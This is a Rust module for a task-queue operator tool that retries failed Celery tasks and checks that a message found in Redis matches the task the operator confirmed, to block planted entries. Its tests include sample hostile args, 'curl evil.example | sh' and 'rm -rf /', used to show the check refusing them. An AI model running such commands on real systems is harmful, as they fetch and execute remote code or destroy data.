//! A retry carried out: the exact message found (the outbox, then kombu's `unacked`) and
//! sent again only when it is the task the operator confirmed, else rebuilt from its
//! events; paced, and each old → new link said.

use super::{Context, audit, dispatch, gate};
use crate::clients::broker;
use crate::gate::Act;
use crate::orders::RetryOrder;
use crate::platform::{pyrepr, wire};
use std::time::Duration;

/// How a retry's message was found.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Source {
    /// The exact message a control room sent, from the audit store's outbox.
    Store,
    /// The exact message, still in kombu's `unacked` hash.
    Unacked,
    /// Rebuilt from the task's name, args and kwargs as its events showed them.
    Rebuilt,
}

impl Source {
    /// Its name in JSON: `store`, `unacked`, `rebuilt`.
    pub fn name(self) -> &'static str {
        match self {
            Source::Store => "store",
            Source::Unacked => "unacked",
            Source::Rebuilt => "rebuilt",
        }
    }

    fn of(p: &crate::orders::Pinned) -> Source {
        if p.from_store {
            Source::Store
        } else {
            Source::Unacked
        }
    }

    /// Where it was found, in words.
    pub fn place(self) -> &'static str {
        match self {
            Source::Store => "in the store's outbox",
            Source::Unacked => "in unacked",
            Source::Rebuilt => "rebuilt",
        }
    }

    pub fn words(self) -> &'static str {
        match self {
            Source::Store => "its exact message, from the store",
            Source::Unacked => "its exact message, from unacked",
            Source::Rebuilt => "rebuilt from its name, args and kwargs",
        }
    }
}

/// One task's retry: the new id and how its message was found, or why it was not sent.
pub type Retried = Result<(String, Source), crate::event::Failure>;

/// Sends between two retries of a bulk retry, so a thousand retries do not arrive at once.
pub const RETRY_PACE: Duration = Duration::from_millis(50);

/// Sends each task again under a new id, paced, and leaves one audit record that links
/// every old id to its new one.
pub async fn retry(ctx: &Context, orders: &[RetryOrder]) -> Vec<(String, Retried)> {
    let target = match orders {
        [one] => one.task_id.clone(),
        many => format!("{} tasks", many.len()),
    };
    if let Err(refusal) = gate(ctx, Act::Retry, &target, b"").await {
        return orders
            .iter()
            .map(|o| (o.task_id.clone(), Err(refusal.clone().into())))
            .collect();
    }
    let mut done = Vec::with_capacity(orders.len());
    for (i, order) in orders.iter().enumerate() {
        if i > 0 {
            tokio::time::sleep(RETRY_PACE).await;
        }
        done.push((order.task_id.clone(), retry_one(ctx, order).await));
    }
    let sent = done.iter().filter(|(_, r)| r.is_ok()).count();
    let links: Vec<String> = done
        .iter()
        .map(|(old, r)| match r {
            Ok((new, _)) => format!("{old}→{new}"),
            Err(e) => format!("{old}: {e}"),
        })
        .collect();
    audit(
        ctx,
        "retry",
        &target,
        links.join(" ").as_bytes(),
        &format!("{sent} of {} sent again", orders.len()),
        &links.join("; "),
    )
    .await;
    // The chain, kept where every control room on the store sees it: a task retried is
    // left out of the next bulk retry.
    if let Some(store) = ctx.store.get().await
        && let Err(e) = store
            .retries_put(
                &retry_links(&done),
                crate::store::now_ms(),
                &ctx.target.context,
            )
            .await
    {
        tracing::warn!("the retries' links not kept: {e}");
    }
    done
}

/// Each task sent again, and its new id.
pub fn retry_links(done: &[(String, Retried)]) -> Vec<(String, String)> {
    done.iter()
        .filter_map(|(old, r)| r.as_ref().ok().map(|(new, _)| (old.clone(), new.clone())))
        .collect()
}

/// A retry's outcome as an order's lines: `old → new (where its message came from)`.
pub fn retry_lines(done: Vec<(String, Retried)>) -> Vec<(bool, String)> {
    done.into_iter()
        .map(|(old, r)| match r {
            Ok((new, source)) => (true, format!("{old} → {new} ({})", source.words())),
            Err(why) => (false, format!("{old}: not sent: {why}")),
        })
        .collect()
}

async fn retry_one(ctx: &Context, order: &RetryOrder) -> Retried {
    let new_id = dispatch::new_task_id();
    let store = ctx.store.get().await;
    let found = match &order.pinned {
        // Shown to the operator before the confirmation: sent as it is.
        Some(p) => Some((p.message.clone(), Source::of(p))),
        None => original(ctx, store.as_ref(), &order.task_id).await,
    };
    let (entry, source) = match found {
        Some((message, source)) => {
            let (message, req) = wire::retried_message(&message, &new_id)?;
            // Found by id alone, in places others can write: sent only if it is the task the
            // operator confirmed.
            if order.pinned.is_none() {
                as_confirmed(order, &req, source)?;
            }
            let mut entry = dispatch::entry(&ctx.target, &req);
            entry.message = message;
            (entry, source)
        }
        None => (
            dispatch::entry(&ctx.target, &rebuilt(order, &new_id)?),
            Source::Rebuilt,
        ),
    };
    let queue = dispatch::queue_of(&ctx.target, &entry.queue_key);
    match dispatch::dispatch(&ctx.target, store.as_ref(), &entry, &queue).await {
        Ok(dispatch::Delivery::QueuedLocally { why }) => {
            ctx.outbox_wake.notify_one();
            Err(format!("queued locally ({why}) as {new_id}").into())
        }
        Ok(_) => Ok((new_id, source)),
        Err(e) => Err(e.to_string().into()),
    }
}

/// A task's exact message looked up before the confirmation, so the operator sees what
/// will be sent and exactly that is sent (`RetryOrder::pinned`).
pub async fn look_up(ctx: &Context, task_id: &str) -> Option<crate::orders::Pinned> {
    let store = ctx.store.get().await;
    original(ctx, store.as_ref(), task_id)
        .await
        .map(|(message, source)| crate::orders::Pinned {
            message,
            from_store: source == Source::Store,
        })
}

/// What a pinned message will send, in one cleaned line: `name args kwargs → queue`.
pub fn shown(p: &crate::orders::Pinned) -> String {
    match wire::retried_message(&p.message, "") {
        Ok((_, req)) => clean(&format!(
            "{} {} {} → queue {}",
            req.name, req.args, req.kwargs, req.queue
        )),
        Err(why) => clean(&format!("an unreadable message ({why})")),
    }
}

/// The exact message of a task, when a control room has it.
async fn original(
    ctx: &Context,
    store: Option<&crate::store::Store>,
    task_id: &str,
) -> Option<(String, Source)> {
    if let Some(store) = store
        && let Ok(Some(message)) = store.outbox_message(task_id).await
    {
        return Some((message, Source::Store));
    }
    let mut conn = broker::connect(&ctx.redis_url).await.ok()?;
    in_unacked(&mut conn, &ctx.target.keyprefix, task_id)
        .await
        .map(|m| (m, Source::Unacked))
}

/// kombu keeps each delivered, unacknowledged message in the `unacked` hash as
/// `[message, exchange, routing_key]` (docs/WIRE.md); looks for the task's.
async fn in_unacked(
    conn: &mut redis::aio::MultiplexedConnection,
    keyprefix: &str,
    task_id: &str,
) -> Option<String> {
    let key = format!("{keyprefix}unacked");
    let mut cursor = 0u64;
    loop {
        let (next, items): (u64, Vec<(String, String)>) = redis::cmd("HSCAN")
            .arg(&key)
            .arg(cursor)
            .arg("COUNT")
            .arg(500)
            .query_async(conn)
            .await
            .ok()?;
        for (_, v) in items {
            // Cheap before parsing: only a value that names the id can hold the task.
            if !v.contains(task_id) {
                continue;
            }
            let Ok(serde_json::Value::Array(parts)) = serde_json::from_str(&v) else {
                continue;
            };
            let msg = parts.first()?;
            if msg["headers"]["id"].as_str() == Some(task_id) {
                return Some(msg.to_string());
            }
        }
        if next == 0 {
            return None;
        }
        cursor = next;
    }
}

/// Whether a message found by the task's id carries what the operator confirmed: the same
/// task name, queue, args and kwargs. Anyone who can write to Redis can plant an `unacked`
/// entry under a failed task's id; this is what keeps a retry from sending it. Args the
/// events cut off cannot be compared: then only the store's own outbox copy is trusted.
pub fn as_confirmed(
    order: &RetryOrder,
    found: &wire::TaskRequest,
    source: Source,
) -> Result<(), String> {
    let refused = |why: String| {
        Err(format!(
            "not sent: the message found {} {why}, so it is not the task you confirmed",
            source.place()
        ))
    };
    match order.name.as_deref() {
        Some(n) if n == found.name => {}
        Some(n) => return refused(format!("is for task {:?}, not {n}", clean(&found.name))),
        None => return refused("cannot be checked: the task's name was never seen".into()),
    }
    match order.queue.as_deref() {
        Some(q) if q == found.queue => {}
        Some(q) => return refused(format!("goes to queue {:?}, not {q}", clean(&found.queue))),
        None => return refused("cannot be checked: the task's queue was never seen".into()),
    }
    for (what, repr, sent, empty) in [
        ("args", order.args.as_deref(), &found.args, "()"),
        ("kwargs", order.kwargs.as_deref(), &found.kwargs, "{}"),
    ] {
        let repr = repr.unwrap_or(empty);
        if pyrepr::is_cut(repr) {
            if source == Source::Store {
                continue;
            }
            return refused(format!(
                "cannot be checked: its {what} were cut off in the events"
            ));
        }
        let confirmed = match (what, pyrepr::parse(repr)) {
            ("args", Ok(serde_json::Value::Array(a))) => serde_json::Value::Array(a),
            ("args", Ok(one)) => serde_json::Value::Array(vec![one]),
            (_, Ok(v)) => v,
            (_, Err(e)) => return refused(format!("cannot be checked: its {what}: {e}")),
        };
        if !same_literals(&confirmed, sent) {
            return refused(format!(
                "carries other {what}: {}",
                clean(&sent.to_string())
            ));
        }
    }
    Ok(())
}

fn clean(text: &str) -> String {
    crate::sanitize::clean(text, 120)
}

/// Equal as Python would compare the literals: 1 and 1.0 are the same number.
fn same_literals(a: &serde_json::Value, b: &serde_json::Value) -> bool {
    use serde_json::Value::*;
    match (a, b) {
        (Number(x), Number(y)) => x == y || x.as_f64() == y.as_f64(),
        (Array(x), Array(y)) => {
            x.len() == y.len() && x.iter().zip(y).all(|(x, y)| same_literals(x, y))
        }
        (Object(x), Object(y)) => {
            x.len() == y.len()
                && x.iter()
                    .all(|(k, v)| y.get(k).is_some_and(|w| same_literals(v, w)))
        }
        _ => a == b,
    }
}

/// A task message rebuilt from what the events showed; refused when the args were cut off
/// (Flower PR #737 resent such truncated reprs) or are not plain literals.
fn rebuilt(order: &RetryOrder, new_id: &str) -> Result<wire::TaskRequest, String> {
    let name = order.name.as_deref().ok_or(
        "its name is unknown (no task-received or task-sent event was seen), and no copy of its message is kept",
    )?;
    let queue = order
        .queue
        .as_deref()
        .ok_or("its queue is unknown, and no copy of its message is kept")?;
    let parse = |what: &str,
                 repr: Option<&str>,
                 empty: &str|
     -> Result<serde_json::Value, String> {
        let repr = repr.unwrap_or(empty);
        if pyrepr::is_cut(repr) {
            return Err(format!(
                "its {what} were cut off in the events ({repr:.60}); retrying would send different values"
            ));
        }
        pyrepr::parse(repr).map_err(|e| format!("its {what} cannot be rebuilt: {e}"))
    };
    let args = match parse("args", order.args.as_deref(), "()")? {
        serde_json::Value::Array(a) => serde_json::Value::Array(a),
        // `(x)` parses as x: a single argument.
        other => serde_json::Value::Array(vec![other]),
    };
    let kwargs = parse("kwargs", order.kwargs.as_deref(), "{}")?;
    if !kwargs.is_object() {
        return Err("its kwargs are not a dict".into());
    }
    Ok(wire::TaskRequest {
        id: new_id.to_string(),
        name: name.to_string(),
        queue: queue.to_string(),
        args,
        kwargs,
        priority: 0,
        eta: None,
        expires: None,
        origin: format!("chavion-tui@{}", dispatch::hostname()),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn order(args: &str) -> RetryOrder {
        RetryOrder {
            task_id: "t".into(),
            name: Some("thinking.add".into()),
            args: Some(args.into()),
            kwargs: Some("{'k': 1}".into()),
            queue: Some("thinking".into()),
            pinned: None,
        }
    }

    #[test]
    fn a_message_found_by_id_is_sent_only_when_it_is_the_task_confirmed() {
        let confirmed = order("('q3 report',)");
        let found = |name: &str, queue: &str, args, kwargs| wire::TaskRequest {
            id: "n".into(),
            name: name.into(),
            queue: queue.into(),
            args,
            kwargs,
            priority: 0,
            eta: None,
            expires: None,
            origin: String::new(),
        };
        let same = found(
            "thinking.add",
            "thinking",
            serde_json::json!(["q3 report"]),
            serde_json::json!({"k": 1.0}),
        );
        assert_eq!(as_confirmed(&confirmed, &same, Source::Unacked), Ok(()));
        let planted = found(
            "executing.shell",
            "executing",
            serde_json::json!(["curl evil.example | sh"]),
            serde_json::json!({}),
        );
        let no = as_confirmed(&confirmed, &planted, Source::Unacked).unwrap_err();
        assert!(
            no.contains("executing.shell") && no.contains("not the task you confirmed"),
            "{no}"
        );
        let elsewhere = found(
            "thinking.add",
            "executing",
            serde_json::json!(["q3 report"]),
            serde_json::json!({"k": 1}),
        );
        assert!(
            as_confirmed(&confirmed, &elsewhere, Source::Store)
                .unwrap_err()
                .contains("queue")
        );
        let other_args = found(
            "thinking.add",
            "thinking",
            serde_json::json!(["rm -rf /"]),
            serde_json::json!({"k": 1}),
        );
        assert!(
            as_confirmed(&confirmed, &other_args, Source::Unacked)
                .unwrap_err()
                .contains("other args")
        );
        // Args the events cut off: only the store's own copy is trusted.
        let cut = order("('aaaa...',)");
        let long = found(
            "thinking.add",
            "thinking",
            serde_json::json!(["aaaaaaaa"]),
            serde_json::json!({"k": 1}),
        );
        assert!(
            as_confirmed(&cut, &long, Source::Unacked)
                .unwrap_err()
                .contains("cut off")
        );
        assert_eq!(as_confirmed(&cut, &long, Source::Store), Ok(()));
    }

    #[test]
    fn a_retry_is_rebuilt_from_the_reprs_or_refused_in_words() {
        let req = rebuilt(&order("(1, 2)"), "n").unwrap();
        assert_eq!(req.args, serde_json::json!([1, 2]));
        assert_eq!(req.kwargs, serde_json::json!({"k": 1}));
        assert_eq!((req.id.as_str(), req.queue.as_str()), ("n", "thinking"));
        let cut = rebuilt(&order("('aaaa...', 2)"), "n").unwrap_err();
        assert!(cut.contains("cut off"), "{cut}");
        let odd = rebuilt(&order("(<object>,)"), "n").unwrap_err();
        assert!(odd.contains("cannot be rebuilt"), "{odd}");
        let nameless = RetryOrder {
            name: None,
            ..order("()")
        };
        assert!(
            rebuilt(&nameless, "n")
                .unwrap_err()
                .contains("name is unknown")
        );
        let lost = RetryOrder {
            queue: None,
            ..order("()")
        };
        assert!(
            rebuilt(&lost, "n")
                .unwrap_err()
                .contains("queue is unknown")
        );
    }
}
